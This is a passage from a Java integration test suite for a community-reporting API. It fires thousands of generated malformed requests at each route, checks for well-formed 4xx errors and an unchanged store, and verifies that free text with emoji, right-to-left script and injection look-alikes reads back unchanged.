                new byte[10 * 1024 * 1024 + 1], Map.of("Content-Type", "application/json"), true));

        long t2 = System.nanoTime();
        StoreSnapshot before = StoreSnapshot.settled(cloud);
        long t3 = System.nanoTime();
        System.out.printf("bases %d ms, generation %d ms, store snapshot %d ms%n", (t1 - t0) / 1_000_000, (t2 - t1) / 1_000_000,
                (t3 - t2) / 1_000_000);
        Map<String, Tally> tally = new ConcurrentHashMap<>();
        List<String> problems = java.util.Collections.synchronizedList(new ArrayList<>());
        ExecutorService pool = Executors.newFixedThreadPool(4);
        long started = System.nanoTime();
        try {
            List<Future<?>> futures = new ArrayList<>();
            for (Req r : all) futures.add(pool.submit(() -> check(r, tally, problems)));
            for (Future<?> f : futures) f.get();
        } finally {
            pool.shutdown();
        }
        long ms = (System.nanoTime() - started) / 1_000_000;
        StoreSnapshot after = StoreSnapshot.settled(cloud);

        StringBuilder table = new StringBuilder(String.format("%nHostile input: %d requests in %d ms%n%-52s %-9s %6s %-44s %4s %4s%n",
                all.size(), ms, "route", "as", "tried", "4xx by status", "2xx", "5xx"));
        int fivexx = 0;
        for (String route : new TreeSet<>(tally.keySet())) {
            Tally t = tally.get(route);
            StringBuilder four = new StringBuilder();
            int two = 0;
            int five = 0;
            for (var e : t.byStatus.entrySet()) {
                if (e.getKey() >= 400 && e.getKey() < 500) four.append(e.getKey()).append(':').append(e.getValue()).append(' ');
                else if (e.getKey() >= 500) five += e.getValue();
                else two += e.getValue();
            }
            fivexx += five;
            Base b = bases.get(route);
            table.append(String.format("%-52s %-9s %6d %-44s %4d %4d%n", route, b == null ? "-" : b.role(), t.tried, four.toString().trim(),
                    two, five));
        }
        table.append("required fields found by the {} probe: ").append(required).append('\n');
        table.append("store before: ").append(before).append('\n');
        System.out.println(table);
        java.nio.file.Files.write(java.nio.file.Path.of("target", "hostile-input-problems.txt"), problems);
        List<String> changed = after.differences(before);
        table.setLength(0);
        table.append("store after: ").append(changed.isEmpty() ? "unchanged" : changed).append('\n');
        System.out.println(table);
        assertTrue(problems.isEmpty() && changed.isEmpty(), problems.size() + " answers were not a 4xx in the route's error format:\n"
                + String.join("\n", problems.subList(0, Math.min(80, problems.size()))) + "\nstore changes: " + changed);
        assertEquals(0, fivexx);
        assertTrue(all.size() > 5000, "the generator should produce thousands of requests, made " + all.size());
    }

    /**
     * Where a field is free text, emoji, right-to-left text and strings that merely look like
     * injection are a resident's words: stored, and read back exactly as sent.
     */
    @Test
    void freeTextTakesEmojiRightToLeftAndInjectionLookalikesAndReadsThemBackUnchanged() throws Exception {
        Map<String, Function<Sent, Api.Answer>> readers = new LinkedHashMap<>();
        readers.put("POST /reports", s -> api.get("/reports/" + s.answer().json().path("reportId").asText(), s.call().caller().token()));
        readers.put("POST /wishes", s -> api.get("/wishes/" + s.answer().json().path("wishId").asText(), s.call().caller().token()));
        readers.put("POST /cases/{caseId}/actions/{action}", s -> api.get(s.call().path().replaceAll("/actions/.*", "/audit"),
                world.demo("admin").token()));
        readers.put("POST /volunteers", s -> api.get("/me/volunteer", s.call().caller().token()));
        readers.put("POST /patrols", s -> api.get("/patrols/" + s.answer().json().path("patrolId").asText(), s.call().caller().token()));
        readers.put("POST /consultations", s -> api.get("/consultations/" + s.answer().json().path("consultationId").asText(),
                s.call().caller().token()));
        readers.put("POST /territory/imports", s -> api.get("/territory/imports/" + s.answer().json().path("jobId").asText(),
                s.call().caller().token()));
        readers.put("POST /communities/{code}/households", s -> api.get(s.call().path() + "/" + s.answer().json().path("householdId").asText(),
                s.call().caller().token()));
        Map<String, Base> bases = bases();
        List<String> problems = new ArrayList<>();
        StringBuilder printed = new StringBuilder("\nFree text (emoji, RTL, injection look-alikes): route -> fields, status, read back\n");
        int stored = 0;
        for (Base b : bases.values()) {
            AuthorizationMatrixIntegrationTest.Call c = b.make().get();
            if (c.body() == null || b.status() >= 300 || !c.headers().getOrDefault("Content-Type", "").startsWith("application/json")) continue;
            JsonNode body = Json.parse(c.body());
            List<String> fields = new ArrayList<>();
            for (Leaf leaf : leaves(body, "")) {
                if (leaf.value().isTextual() && FREE_TEXT.contains(leaf.name())) {
                    body = replace(body, leaf.path(), TextNode.valueOf(LEGIT_TEXT));
                    fields.add(leaf.path());
                }
            }
            if (fields.isEmpty()) continue;
            AuthorizationMatrixIntegrationTest.Call legit = new AuthorizationMatrixIntegrationTest.Call(c.method(), c.path(), Json.write(body),
                    c.caller(), c.headers());
            Api.Answer a = api.call(legit.method(), legit.path(), legit.caller().token(), legit.body(), legit.headers());
            String readBack = "-";
            if (a.status() >= 300) {
                problems.add(b.route() + " " + fields + ": " + a.status() + " " + a.body());
            } else if (readers.containsKey(b.route())) {
                Api.Answer r = readers.get(b.route()).apply(new Sent(legit, a));
                int found = count(r.json(), LEGIT_TEXT);
                readBack = found + " of " + fields.size() + " fields equal";
                if (found < fields.size()) problems.add(b.route() + ": read back " + found + " of " + fields + " unchanged: " + r.body());
                else stored++;
            }
            printed.append(String.format("%-52s %-40s %d %s%n", b.route(), fields, a.status(), readBack));
        }
        System.out.println(printed);
        assertEquals(List.of(), problems);
        assertTrue(stored >= readers.size(), "every route with a reader stored and read back its text: " + stored);
    }

    record Sent(AuthorizationMatrixIntegrationTest.Call call, Api.Answer answer) {}

    private static int count(JsonNode n, String text) {
        if (n == null) return 0;
        if (n.isTextual()) return n.textValue().equals(text) ? 1 : 0;
        int sum = 0;
        for (JsonNode child : n) sum += count(child, text);
        return sum;
    }

    /** The routes whose path names another user's object: the same request, on a resident's behalf, for another resident's object. */
    private static AuthorizationMatrixIntegrationTest.Call othersObject(String route) {
        if (!route.matches(".*\\{(reportId|caseId|wishId|logId|notificationId|jobId|userId|householdId)}.*")) return null;
        return world.scenarios().get(route).apply(world.ctx(Role.RESIDENT, false));
    }

    /** The fields a body must hold, as the route itself names them when sent {@code {}}. */
    private static Set<String> requiredFields(AuthorizationMatrixIntegrationTest.Call c) {
        if (c.body().equals("{}")) return Set.of();
        Api.Answer a = api.call(c.method(), c.path(), c.caller().token(), "{}", c.headers());
        Set<String> names = new TreeSet<>();
        for (JsonNode f : a.json() == null ? Json.array() : a.json().path("error").path("fields")) {
            if (f.path("message").asText().equals("is required")) names.add(f.path("field").asText());
        }
        return names;
    }

    private static void check(Req r, Map<String, Tally> tally, List<String> problems) {
        Api.Answer a;
        try {
            a = api.send(r.method(), r.path(), r.token(), r.body(), r.headers());
        } catch (RuntimeException e) {
            problems.add(r.route() + " [" + r.label() + "]: " + e);
            return;
        }
        Tally t = tally.computeIfAbsent(r.route(), k -> new Tally());
        synchronized (t) {
            t.tried++;
            t.byStatus.merge(a.status(), 1, Integer::sum);
        }
        String why = null;
        if (a.status() < 400 || a.status() >= 500) why = "status " + a.status();
        else if (!inErrorFormat(r, a)) why = a.status() + " not in the error format";
        if (why != null) {
            String body = a.body().length() > 240 ? a.body().substring(0, 240) + "..." : a.body();
            problems.add(r.route() + " [" + r.label() + "] " + r.method() + " " + shortPath(r.path()) + ": " + why + ": " + body);
        }
    }

    private static String shortPath(String p) {
        return p.length() > 120 ? p.substring(0, 117) + "..." : p;
    }

    /**
     * Linli's {"error":{code,message}}; the GeoReport v2 error array on /open311; API Gateway's own
     * {"message"} only where the gateway itself answers (no Authorization header, a body over 10 MiB).
     */
    static boolean inErrorFormat(Req r, Api.Answer a) {
        if (r.gatewayAnswers()) return a.json() != null && a.json().path("message").isTextual();
        if (r.path().startsWith("/open311/")) {
            if (r.path().contains(".xml") || r.route().endsWith(".xml")) {
                return a.body().contains("<errors>") && a.body().contains("<description>");
            }
            return a.json() != null && a.json().isArray() && a.json().size() > 0 && a.json().get(0).path("code").isNumber()
                    && a.json().get(0).path("description").isTextual();
        }
        return a.json() != null && a.json().path("error").path("code").isTextual() && a.json().path("error").path("message").isTextual();
    }
}
